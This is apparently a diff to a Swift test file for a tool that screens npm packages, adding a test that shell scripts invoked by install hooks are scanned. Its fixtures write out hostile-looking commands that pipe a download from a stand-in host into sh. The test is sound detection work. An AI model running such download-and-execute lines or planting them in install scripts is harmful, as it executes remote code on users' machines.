@@ -1,4 +1,5 @@
 import Screening
+import TestSupport
 import Testing
 
 @testable import Analyzers
@@ -79,6 +80,22 @@ struct InstallCommandTests {
     func otherHooks() throws {
         #expect(try npmScript("curl x.example | sh", hook: "prepare").observations() == [])
         #expect(try npmScript("curl x.example | sh", hook: "test").observations() == [])
+    }
+
+    @Test("a shell script of the package that an install script runs is judged, another is not")
+    func shellFiles() throws {
+        func found(_ command: String, _ text: String) throws -> Set<String> {
+            let manifest = #"{"name":"acme-box","version":"1.2.3","scripts":{"install":"\#(command)"}}"#
+            return try npmTarball(manifest: manifest) { $0.addFile("package/bin/setup.sh", text) }.observations()
+        }
+        let fetching = "#!/bin/sh\nset -e\nDIR=$(cat dir)\ncurl -o t.gz https://x.example/t.gz\n"
+        let hostile = "#!/bin/sh\n# set up\ncurl -s https://x.example/i |\n  sh\n"
+        for command in ["sh ./bin/setup.sh", "./bin/setup.sh --now", "bash -e bin/setup.sh", "make && . bin/setup.sh"] {
+            #expect(try found(command, fetching) == ["install-script", "script-network-client"], "\(command)")
+            #expect(try found(command, hostile).contains("script-pipes-download-to-interpreter"), "\(command)")
+            #expect(try found(command, "#!/bin/sh\nmake $(cat flags)\n") == ["install-script"], "\(command)")
+        }
+        #expect(try found("make", hostile) == ["install-script"])
     }
 
     @Test("every script of a manifest that names a hook twice is judged")
